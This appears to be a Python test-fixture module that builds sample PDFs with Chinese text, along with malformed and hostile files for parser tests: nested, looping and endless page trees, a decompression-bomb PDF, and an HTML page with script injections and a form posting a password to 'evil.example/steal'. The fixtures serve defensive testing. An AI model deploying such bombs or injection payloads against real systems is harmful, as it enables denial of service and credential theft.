"""Documents for tests, made as they are needed: PDFs with real Chinese fonts, and files that mean harm.

`python -m tests.documents example` writes the example documents of the project anew (companies/starter/documents).

Chinese text needs the font of Debian's fonts-noto-cjk. Where it is missing the test is skipped with that reason;
`XINPAN_REQUIRE_FONT=1` makes it a failure, so that continuous integration cannot pass by skipping.
"""

from __future__ import annotations

import logging
import sys
import zlib
from collections.abc import Sequence
from datetime import UTC, datetime
from functools import lru_cache
from io import BytesIO
from pathlib import Path

import pypdfium2
from fpdf import FPDF
from PIL import Image, ImageDraw

from tests.plugin import missing

FONTS = Path("/usr/share/fonts/opentype/noto")
REGULAR, BOLD = FONTS / "NotoSansCJK-Regular.ttc", FONTS / "NotoSansCJK-Bold.ttc"
SIMPLIFIED = 2  # which font of the collection
A4 = (595, 842)  # points
MARGIN, LINE, SIZE = 50, 18, 10.5  # points
MADE_AT = datetime(2026, 3, 2, 4, 0, tzinfo=UTC)  # equal arguments give equal bytes

Outline = tuple[tuple[str, int, int], ...]  # title, page from 1, level from 0


# --- Good PDFs --------------------------------------------------------------------------------------


def pdf(
    pages: Sequence[str | Sequence[str]],
    *,
    outline: Sequence[tuple[str, int, int]] = (),
    password: str | None = None,
    size: tuple[int, int] = A4,
) -> bytes:
    """A PDF with these pages, each a text or its lines. Lines are not wrapped; `**words**` are bold.

    The first line stands 50 points from the left and the top, in 10.5 points, the others 18 points below each other.

    Args:
        outline: bookmarks as (title, page from 1, level from 0).
        password: what readers are asked for; "" encrypts with a password that opens without asking.
        size: width and height of a page in points.
    """
    lines = tuple(tuple(page.split("\n") if isinstance(page, str) else page) for page in pages)
    return _pdf(lines, tuple(outline), password, size)


@lru_cache(maxsize=32)
def _pdf(pages: tuple[tuple[str, ...], ...], outline: Outline, password: str | None, size: tuple[int, int]) -> bytes:
    paper = new_paper(size, bold=any("**" in line for lines in pages for line in lines))
    if password is not None:
        paper.set_encryption(owner_password="owner", user_password=password)
    for number, lines in enumerate(pages, 1):
        paper.add_page()
        for title, at, level in outline:
            if at == number:
                paper.start_section(title, level=level)
        for place, line in enumerate(lines):
            paper.set_xy(MARGIN, MARGIN + place * LINE)
            paper.cell(text=line, h=LINE, markdown="**" in line)
    return bytes(paper.output())


def new_paper(size: tuple[int, int], *, bold: bool = False) -> FPDF:
    """An empty document that can write Chinese."""
    if not REGULAR.exists() or not BOLD.exists():
        missing("FONT", "no Chinese font on this machine (Debian: apt install fonts-noto-cjk)")
    logging.getLogger("fontTools").setLevel(logging.WARNING)  # it tells every table of every font
    paper = FPDF(unit="pt", format=size)
    paper.set_creation_date(MADE_AT)
    paper.set_auto_page_break(False)
    paper.c_margin = 0
    paper.add_font("noto", fname=REGULAR, collection_font_number=SIMPLIFIED)
    if bold:
        paper.add_font("noto", style="B", fname=BOLD, collection_font_number=SIMPLIFIED)
    paper.set_font("noto", size=SIZE)
    return paper


def turned(content: bytes, degrees: int) -> bytes:
    """The same PDF with every page shown turned clockwise."""
    with pypdfium2.PdfDocument(content) as document:
        for page in document:
            page.set_rotation(degrees)
        return _saved(document)


def cropped(content: bytes, left: int, bottom: int, right: int, top: int) -> bytes:
    """The same PDF of which only this box of every page is shown, in points from the lower left corner."""
    with pypdfium2.PdfDocument(content) as document:
        for page in document:
            page.set_cropbox(left, bottom, right, top)
        return _saved(document)


def _saved(document: pypdfium2.PdfDocument) -> bytes:
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def scanned_pdf(pages: int = 2) -> bytes:
    """Pictures of pages: nothing on them is text."""
    paper = FPDF(unit="pt", format=A4)
    paper.set_creation_date(MADE_AT)
    picture = Image.new("L", (297, 421), 255)
    ImageDraw.Draw(picture).rectangle((40, 40, 257, 80), fill=0)
    for _ in range(pages):
        paper.add_page()
        paper.image(picture, x=0, y=0, w=A4[0])
    return bytes(paper.output())


def encrypted_pdf() -> bytes:
    """A PDF that opens only with a password that nobody told us."""
    return pdf(["Not for you."], password="secret")


# --- PDFs that cannot or must not be read -----------------------------------------------------------


def truncated_pdf() -> bytes:
    """A download that stopped in the middle: no page can be found in it."""
    content = pdf(["Half of it."])
    return content[: len(content) // 2]


def garbage_pdf() -> bytes:
    """The first bytes of a PDF, and then none of the rest."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


def nested_pdf(depth: int = 200_000) -> bytes:
    """Arrays within arrays where a page says what it needs."""
    return raw_pdf([PAGE_TREE, b"<</Type/Page/Parent 2 0 R/Resources " + b"[" * depth + b"]" * depth + b">>"])


def looping_pdf() -> bytes:
    """A tree of pages that is its own branch."""
    return raw_pdf([b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def endless_pdf(count: int = 1_000_000) -> bytes:
    """One page, said to be a million: each branch of the tree is the same one."""
    return raw_pdf(
        [b"<</Type/Pages/Kids[" + b"3 0 R " * 1000 + b"]/Count %d>>" % count,
         b"<</Type/Pages/Parent 2 0 R/Kids[" + b"4 0 R " * 1000 + b"]/Count %d>>" % (count // 1000),
         b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>"]
    )  # fmt: skip


def bomb_pdf(megabytes: int = 600) -> bytes:
    """Some kilobytes that unpack to this much of a page's content, mostly text."""
    packed = _zeros_of_text(megabytes)
    return raw_pdf(
        [PAGE_TREE,
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
         b"<</Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream",
         b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]
    )  # fmt: skip


@lru_cache(maxsize=4)
def _zeros_of_text(megabytes: int) -> bytes:
    line = b"BT /F 12 Tf 10 10 Td (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj ET\n"
    block = line * (1024 * 1024 // len(line))
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def long_pdf(pages: int) -> bytes:
    """Many pages with one short line each."""
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(pages))
    head = [b"<</Type/Pages/Kids[" + kids + b"]/Count %d/MediaBox[0 0 595 842]>>" % pages,
            b"<</Length 38>>stream\nBT /F 12 Tf 50 700 Td (One line.) Tj ET\nendstream"]  # fmt: skip
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>"
    page = b"<</Type/Page/Parent 2 0 R/Contents 3 0 R/Resources<</Font<</F " + font + b">>>>>>"
    return raw_pdf([*head, *[page] * pages])


PAGE_TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def raw_pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF of these objects, word for word. The first is number 2, the tree of pages; number 1 is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate([b"<</Type/Catalog/Pages 2 0 R>>", *objects], 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, table)
    return bytes(out)


# --- Web pages --------------------------------------------------------------------------------------


def html(body: str, *, title: str = "A page", head: str = '<meta charset="utf-8">', encoding: str = "utf-8") -> bytes:
    """A web page with this body."""
    return f"<!doctype html><html><head>{head}<title>{title}</title></head><body>{body}</body></html>".encode(encoding)


HOSTILE_BODY = """
<h1 id="login" onclick="alert(1)">Results</h1>
<script>document.title = "executed"</script>
<style>body { display: none }</style>
<p onmouseover="alert(2)" style="position:fixed;inset:0">Revenue was <b>1,200</b> million yuan.</p>
<form action="https://evil.example/steal"><input name="password" value="typed"><button>Sign in</button></form>
<img src="https://evil.example/pixel.gif" alt="pixel" onerror="alert(3)">
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">
<svg><script>alert(4)</script><text>drawn</text></svg>
<a href="javascript:alert(5)">click</a> <a href="https://exchange.example/a.html" target="_top">the filing</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<template><p>hidden</p></template><noscript><p>no script</p></noscript>
<p>End of it.</p>
"""


def hostile_html() -> bytes:
    """A page with scripts, a form, remote pictures, frames and links that are scripts, around two plain sentences."""
    return html(HOSTILE_BODY)


def nested_html(depth: int = 100_000) -> bytes:
    """Boxes within boxes, never closed."""
    return html("<div>" * depth + "deep")


# --- The example of the project -----------------------------------------------------------------------


def main() -> int:
    """Write the example documents anew. Returns the exit code for the shell."""
    if sys.argv[1:] != ["example"]:
        print("Usage: python -m tests.documents example", file=sys.stderr)
        return 2
    from tests.example_document import write_example

    for path in write_example():
        print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
